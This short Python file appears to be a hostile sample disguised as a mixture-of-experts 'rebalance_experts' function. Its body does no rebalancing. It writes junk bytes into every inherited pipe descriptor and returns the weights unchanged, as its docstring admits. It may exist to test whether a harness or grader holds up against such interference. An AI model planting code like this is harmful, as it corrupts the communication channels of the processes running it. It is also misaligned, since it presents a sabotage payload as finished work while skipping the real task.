"""Writes garbage into every pipe descriptor it did not open, then returns."""
import os
import stat


def rebalance_experts(weight, num_replicas, num_groups, num_nodes, num_gpus):
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, b"\xff" * 64 + b"not a frame")
        except OSError:
            pass
    return weight
